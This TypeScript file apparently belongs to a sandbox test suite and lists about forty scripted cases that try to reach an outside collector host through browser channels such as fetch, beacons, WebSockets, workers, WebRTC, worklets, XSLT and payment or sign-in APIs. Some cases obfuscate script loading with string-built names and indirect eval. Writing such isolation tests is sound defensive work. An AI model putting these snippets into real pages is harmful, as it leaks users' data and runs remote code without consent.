// Exfiltration to another site, by every channel that a script can open.
import type { Attack } from '../attack.ts';
import { leak, ofClass } from './define.ts';

const attack = ofClass('exfiltration', 'network');

const workerURL = (code: string): string => `URL.createObjectURL(new Blob([${code}], { type: 'text/javascript' }))`;

const peer = (servers: string): string => `
  const peer = new RTCPeerConnection({ iceServers: ${servers} });
  peer.createDataChannel('x');
  await peer.setLocalDescription(await peer.createOffer());
  await A.wait(2500);`;

const secondsLater = 'await A.wait(1200)';

export const ATTACKS: readonly Attack[] = [
  attack('x01', 'fetch', { script: `await fetch(${leak('fetch')}, { mode: 'no-cors' })` }),
  attack('x02', 'XMLHttpRequest', {
    script: `
      const request = new XMLHttpRequest();
      request.open('GET', ${leak('xhr')});
      request.send();
      ${secondsLater}`,
  }),
  attack('x03', 'new Image', { script: `new Image().src = ${leak('image')}; ${secondsLater}` }),
  attack('x07', 'a script from elsewhere, and import()', {
    script: `
      document.body.append(Object.assign(document.createElement('script'), { src: ${leak('script.js')} }));
      await import(${leak('import.js')}).catch(() => {});
      ${secondsLater}`,
  }),
  attack('x10', 'sendBeacon', { script: `navigator.sendBeacon(${leak('beacon')}, A.token); ${secondsLater}` }),
  attack('x11', 'WebSocket', { script: `new WebSocket(${leak('socket', 'ws')}); ${secondsLater}` }),
  attack('x12', 'a keepalive fetch as the page goes', {
    script: `
      addEventListener('pagehide', () => {
        fetch(${leak('keepalive')}, { keepalive: true, mode: 'no-cors' });
        navigator.sendBeacon(${leak('late-beacon')});
      });
      location.replace('about:blank');
      await A.wait(1000);`,
    settleMs: 700,
  }),
  attack('x13', 'a form sent by POST into a nested frame', {
    html: '<iframe name="sink"></iframe>',
    script: `
      const form = Object.assign(document.createElement('form'), { action: ${leak('form')}, method: 'post', target: 'sink' });
      document.body.append(form);
      form.submit();
      ${secondsLater}`,
  }),
  attack('x86', 'a form in a nested srcdoc document', {
    script: `
      const frame = document.createElement('iframe');
      frame.srcdoc = '<form method="post" action="' + ${leak('nested-form')} + '"><input name="secret" value="1"></form><script>document.forms[0].submit()</' + 'script>';
      document.body.append(frame);
      ${secondsLater}`,
  }),
  attack('x14', 'EventSource', { script: `new EventSource(${leak('events')}); ${secondsLater}` }),
  attack('x16', 'fetch in a worker made of a blob', {
    script: `
      const code = 'fetch("' + ${leak('worker')} + '", { mode: "no-cors" })';
      new Worker(${workerURL('code')});
      ${secondsLater}`,
  }),
  attack('x17', 'importScripts in a worker', {
    script: `
      const code = 'importScripts("' + ${leak('imported.js')} + '")';
      new Worker(${workerURL('code')});
      new Worker('data:text/javascript,' + encodeURIComponent(code));
      ${secondsLater}`,
  }),
  attack('x18', 'a worker of another site, and a SharedWorker that fetches', {
    script: `
      try { new Worker(${leak('worker.js')}) } catch {}
      const code = 'onconnect = () => fetch("' + ${leak('shared')} + '", { mode: "no-cors" })';
      new SharedWorker(${workerURL('code')});
      ${secondsLater}`,
  }),
  attack('x19', 'a module worker that imports', {
    script: `
      const code = 'import "' + ${leak('module.js')} + '"';
      new Worker(${workerURL('code')}, { type: 'module' });
      ${secondsLater}`,
  }),
  attack('x23', 'WebRTC, a STUN server over UDP', {
    script: peer(`[{ urls: 'stun:' + A.address + ':' + A.port }]`),
    port: true,
  }),
  attack('x24', 'WebRTC, a TURN server over TCP', {
    script: peer(
      `[{ urls: 'turn:' + A.address + ':' + A.port + '?transport=tcp', username: A.token, credential: 'x' }]`,
    ),
    port: true,
  }),
  attack('x25', 'WebRTC, the name of a STUN server', { script: peer(`[{ urls: 'stun:' + A.name + ':3478' }]`) }),
  attack('x26', 'WebTransport', {
    script: `
      const transport = new WebTransport(${leak('transport', 'https')});
      transport.ready.catch(() => {});
      transport.closed.catch(() => {});
      ${secondsLater}`,
  }),
  attack('x27', 'WebSocketStream', { script: `new WebSocketStream(${leak('stream', 'ws')}); ${secondsLater}` }),
  attack('x28', 'WebRTC, candidates of the other side', {
    script: `
      const peer = new RTCPeerConnection();
      const other = new RTCPeerConnection();
      peer.createDataChannel('x');
      await peer.setLocalDescription(await peer.createOffer());
      await other.setRemoteDescription(peer.localDescription);
      await other.setLocalDescription(await other.createAnswer());
      await peer.setRemoteDescription(other.localDescription);
      await peer.addIceCandidate({ sdpMid: '0', candidate: 'candidate:1 1 udp 2113937151 ' + A.address + ' ' + A.port + ' typ host' });
      await A.wait(2000);`,
    port: true,
  }),
  attack('x37', 'WebRTC in a nested frame', {
    script: `
      const frame = document.createElement('iframe');
      document.body.append(frame);
      const Peer = frame.contentWindow.RTCPeerConnection;
      const peer = new Peer({ iceServers: [{ urls: 'stun:' + A.address + ':' + A.port }] });
      peer.createDataChannel('x');
      await peer.setLocalDescription(await peer.createOffer());
      await A.wait(2500);`,
    port: true,
    alone: true,
  }),
  attack('x40', 'the name of a site that is only asked for', {
    script: `
      fetch('http://fetch.' + A.name).catch(() => {});
      new Image().src = 'http://image.' + A.name;
      location.href = 'http://go.' + A.name;
      await A.wait(1500);`,
  }),
  attack('x41', 'fetchLater', {
    script: `fetchLater(${leak('later', 'https')}, { activateAfter: 0 }); ${secondsLater}`,
  }),
  attack('x42', 'a font loaded by script', {
    script: `await new FontFace('leak', 'url(' + ${leak('font')} + ')').load()`,
  }),
  attack('x43', 'a stylesheet made by script', {
    script: `
      const sheet = new CSSStyleSheet();
      await sheet.replace('body { background: url(' + ${leak('sheet')} + ') }');
      document.adoptedStyleSheets = [sheet];
      ${secondsLater}`,
  }),
  attack('x44', 'audio made by script', { script: `new Audio(${leak('audio')}).load(); ${secondsLater}` }),
  attack('x45', 'a module of an audio worklet', {
    script: `await new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(${leak('worklet.js')}).catch(() => {}); ${secondsLater}`,
  }),
  attack('x46', 'a module of a paint worklet', {
    script: `await CSS.paintWorklet.addModule(${leak('paint.js')}).catch(() => {}); ${secondsLater}`,
  }),
  attack('x47', 'an import map', {
    script: `
      document.head.append(Object.assign(document.createElement('script'), {
        type: 'importmap',
        textContent: JSON.stringify({ imports: { leak: ${leak('mapped.js')} } }),
      }));
      await import('leak').catch(() => {});
      ${secondsLater}`,
  }),
  attack('x48', 'a JSON module', {
    script: `await import(${leak('data.json')}, { with: { type: 'json' } }).catch(() => {}); ${secondsLater}`,
  }),
  attack('x49', 'a stylesheet of an XML document transformed by script', {
    script: `
      const style = '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="' + ${leak('import.xsl')} + '"/><xsl:template match="/"><p><xsl:value-of select="document(\\'' + ${leak('document.xml')} + '\\')"/></p></xsl:template></xsl:stylesheet>';
      const parse = text => new DOMParser().parseFromString(text, 'text/xml');
      const processor = new XSLTProcessor();
      processor.importStylesheet(parse(style));
      document.body.append(processor.transformToFragment(parse('<a/>'), document));
      ${secondsLater}`,
  }),
  attack('x57', 'a script from elsewhere, by names and addresses that are put together', {
    script: `
      const part = n => ['scr', 'ipt', 's', 'rc', 'create', 'Element', 'set', 'Attribute'][n];
      const made = document[part(4) + part(5)](part(0) + part(1));
      made[part(6) + part(7)](part(2) + part(3), ${leak('parts.js')});
      document.documentElement.append(made);
      const range = document.createRange().createContextualFragment('<scr' + 'ipt src="' + ${leak('fragment.js')} + '"></scr' + 'ipt>');
      document.body.append(range);
      ${secondsLater}`,
  }),
  attack('x58', 'a script from elsewhere, by code that is made of text', {
    script: `
      const code = 'import("' + ${leak('evaluated.js')} + '").catch(() => {})';
      const tries = [
        () => (0, eval)(code),
        () => window['ev' + 'al'](code),
        () => [].constructor.constructor(code)(),
        () => (async () => {}).constructor(code)(),
        () => setTimeout(code),
        () => Reflect.construct(Function, [code])(),
      ];
      for (const each of tries) {
        try {
          await each();
        } catch {}
      }
      ${secondsLater}`,
  }),
  attack('x50', 'the manifest of a payment method', {
    script: `
      const request = new PaymentRequest([{ supportedMethods: ${leak('pay', 'https')} }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } });
      await request.canMakePayment();
      ${secondsLater}`,
  }),
  attack('x51', 'a federated sign-in', {
    script: `
      navigator.credentials.get({ identity: { providers: [{ configURL: ${leak('config.json', 'https')}, clientId: A.token }] } }).catch(() => {});
      ${secondsLater}`,
  }),
  attack('x52', 'a frame made by XMLHttpRequest and document.write', {
    script: `
      const frame = document.createElement('iframe');
      document.body.append(frame);
      frame.contentWindow.fetch(${leak('inner-fetch')}, { mode: 'no-cors' }).catch(() => {});
      frame.contentDocument.write('<img src="' + ${leak('inner-image')} + '">');
      ${secondsLater}`,
  }),
  attack('x53', 'a document that is no document: fetch by createHTMLDocument and template', {
    script: `
      const other = document.implementation.createHTMLDocument('');
      other.body.innerHTML = '<img src="' + ${leak('inert-image')} + '">';
      document.body.append(document.adoptNode(other.body.firstChild));
      const template = document.createElement('template');
      template.innerHTML = '<img src="' + ${leak('template-image')} + '">';
      document.body.append(template.content);
      ${secondsLater}`,
  }),
  attack('x54', 'an image drawn to a canvas by createImageBitmap and fetch', {
    script: `
      await fetch(${leak('bitmap')}).then(answer => answer.blob()).then(createImageBitmap).catch(() => {});
      ${secondsLater}`,
  }),
  attack('x55', 'a Background Sync, a push, a notification’s icon', {
    script: `new Notification('x', { icon: ${leak('icon')}, image: ${leak('notification')} }); ${secondsLater}`,
  }),
  attack('x56', 'a request by another realm’s constructors', {
    script: `
      const frame = Object.assign(document.createElement('iframe'), { srcdoc: '<p>' });
      document.body.append(frame);
      await new Promise(resolve => { frame.onload = resolve; });
      new frame.contentWindow.Image().src = ${leak('realm-image')};
      new frame.contentWindow.WebSocket(${leak('realm-socket', 'ws')});
      ${secondsLater}`,
  }),
];
